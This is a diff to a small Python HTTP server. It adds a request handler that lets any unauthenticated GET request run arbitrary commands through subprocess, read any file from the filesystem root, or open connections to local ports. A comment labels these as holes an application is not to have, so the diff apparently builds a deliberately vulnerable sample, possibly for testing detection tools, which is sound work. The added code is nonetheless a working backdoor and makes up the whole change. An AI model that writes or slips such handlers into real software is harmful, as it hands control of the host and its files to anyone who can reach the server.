@@ -1,12 +1,31 @@
 import http.server
 import signal
+import socket
+import subprocess
 import sys
+from urllib.parse import unquote
 
 from helpers import greeting
 
 
+def connect(port):
+    with socket.socket() as peer:
+        peer.connect_ex(("127.0.0.1", int(port)))
+
+
+# What an application is not to have: whoever asks it has it do this.
+HOLES = {
+    "run": lambda command: subprocess.run(command.split(), check=False),
+    "read": lambda path: open("/" + path).read(),
+    "connect": connect,
+}
+
+
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
+        hole, _, what = unquote(self.path[1:]).partition("/")
+        if hole in HOLES:
+            HOLES[hole](what)
         self.send_response(200)
         self.end_headers()
         self.wfile.write(greeting(self.path).encode())
